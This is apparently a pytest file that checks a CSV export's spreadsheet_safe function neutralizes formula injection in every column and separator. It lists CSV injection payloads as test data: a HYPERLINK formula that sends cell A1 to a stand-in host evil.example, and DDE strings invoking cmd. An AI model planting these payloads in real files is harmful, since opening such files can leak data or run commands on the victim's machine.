"""Export cells cannot carry formulas: every cell of the CSV export that a spreadsheet would
evaluate is neutralized (OWASP "CSV Injection"), in every column, also when the file is
opened with another separator; safe values and plain numbers are left as they are.

The oracle is the OWASP rule restated here, not the export's own code: a cell is live when,
after the spaces a spreadsheet may trim, it starts with = + - @ (or their full-width forms),
a tab or a carriage return, unless it is a plain number. "-5" is a plain number: a spreadsheet
reads it as minus five and evaluates nothing, and a negative amount must stay a number.
"""

import csv
import io
import json
import re

import pytest

from intel.exports import spreadsheet_safe
from intel.importing import import_file
from intel.models import Record
from sharing import services
from sharing.models import Agreement
from tests.sharing_helpers import in_force, staff

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def live(cell: str) -> bool:
    trimmed = cell.lstrip(" ")
    return trimmed.startswith(TRIGGERS) and not NUMBER.fullmatch(trimmed.strip())


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff20SUM(1)",
    '"=1+1"',
    "-",
]
SAFE = [
    "Frozen fish declared under-value",
    "ACME Trading Ltd.",
    "x=1+1",
    "e-mail: info@acme.example",
    "-5",
    "-5.25",
    "+31",
    "42",
    "",
    "'=already text",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_starting_a_formula_is_neutralized_and_keeps_its_text(value):
    cell = spreadsheet_safe(value)
    assert not live(cell), repr(cell)
    assert cell.startswith("'") or cell.lstrip(' "').startswith("'"), repr(cell)
    # Only apostrophes are added; the text itself is all there.
    assert cell.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
    ],
)
def test_the_owasp_cases_get_a_leading_apostrophe(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize("value", SAFE)
def test_safe_values_and_plain_numbers_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_a_formula_after_another_separator_cannot_start_a_cell_either(separator):
    """A spreadsheet in a semicolon or tab locale splits the value there, and a line break
    can end the row for a reader that lost track of the quotes."""
    value = f'Frozen fish{separator}=HYPERLINK("http://evil.example"){separator}@SUM(1){separator}-5'
    cell = spreadsheet_safe(value)
    pieces = re.split(r"[;\t\r\n]", cell)
    assert [piece for piece in pieces if live(piece)] == [], repr(cell)
    assert pieces[0] == "Frozen fish" and pieces[-1] == "-5"
    assert cell.replace("'", "") == value.replace("'", "")


# Values an importing agency states, one per free-text column the export carries: in the
# record's own columns (external_ref, summary), in the JSON of its mentions (entity names
# and addresses from the entities' properties) and of its details.
ROWS = [
    {
        "external_ref": "=2+5",
        "category": "shipment",
        "occurred_on": "2026-03-02",
        "summary": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "importer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "importer_country": "NL",
        "importer_address": "+cmd|' /C calc'!A0",
        "vessel_imo": "9074729",
        "vessel_name": "-1+1",
        "port_of_discharge": "NLRTM",
    },
    {
        "external_ref": "SZ-9",
        "category": "seizure",
        "occurred_on": "2026-03-03",
        "summary": "Cocaine; =1+1; found\tinside\n@SUM(2)",
        "goods_description": "=cmd|' /C calc'!A0",
        "quantity": "-5",
        "unit": "kg",
    },
    {
        "external_ref": "SHP-SAFE",
        "category": "shipment",
        "occurred_on": "2026-03-04",
        "summary": "-5",
        "importer_name": "ACME Trading Ltd.",
        "importer_country": "NL",
    },
]


@pytest.fixture
def exported(tmp_path, db):
    cus, pol = staff("cus"), staff("pol", kind="police")
    columns = sorted({column for row in ROWS for column in row})
    path = tmp_path / "payloads.csv"
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, columns)
        writer.writeheader()
        writer.writerows(ROWS)
    import_file(path, cus.agency)
    for record in Record.objects.filter(owner=cus.agency):
        services.set_releasability(record, cus.analyst, "covering")
    in_force((cus, True, False), (pol, False, True))
    texts = {}
    for name, who in (("owner", cus), ("partner", pol)):
        response = who.client(purpose="investigation").get("/api/records/export/")
        assert response.status_code == 200
        texts[name] = b"".join(response.streaming_content).decode()
    return texts


def test_no_cell_of_the_export_is_live_whichever_separator_a_spreadsheet_reads(exported):
    for who, text in exported.items():
        for delimiter in (",", ";", "\t"):
            cells = [
                cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
            ]
            if delimiter == ",":
                assert len(cells) == (len(ROWS) + 1) * len(next(csv.reader(io.StringIO(text))))
            assert [cell for cell in cells if live(cell)] == [], (who, delimiter)


def test_dangerous_cells_are_neutralized_and_the_rest_unchanged(exported):
    reference = Agreement.objects.get().reference
    for who, text in exported.items():
        rows = {row["summary"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
        assert len(rows) == 3, who
        first = rows["'" + ROWS[0]["summary"]]
        assert first["external_ref"] == "'=2+5"
        assert rows["-5"]["external_ref"] == "SHP-SAFE"
        seizure = next(row for row in rows.values() if row["external_ref"] == "SZ-9")
        assert seizure["summary"] != ROWS[1]["summary"]
        assert seizure["summary"].replace("'", "") == ROWS[1]["summary"].replace("'", "")
        # The JSON columns decode to exactly what the agency stated.
        properties = [mention["properties"] for mention in json.loads(first["mentions"])]
        stated = {value for props in properties for value in props.values()}
        assert {ROWS[0]["importer_name"], ROWS[0]["vessel_name"]} <= stated, stated
        assert any(ROWS[0]["importer_address"] in value for value in stated), stated
        details = json.loads(seizure["details"])
        assert details["goods_description"] == ROWS[1]["goods_description"]
        assert details["quantity"] in ("-5", -5)
        # The partner's copy names the agreement by its reference, never by its key.
        assert first["shared_under"] == ("" if who == "owner" else f"agreement {reference}")


def test_the_records_themselves_keep_what_was_stated(exported):
    """Neutralizing is for the file only: the database and the API keep the values."""
    record = Record.objects.get(external_ref="=2+5")
    assert record.summary == ROWS[0]["summary"]
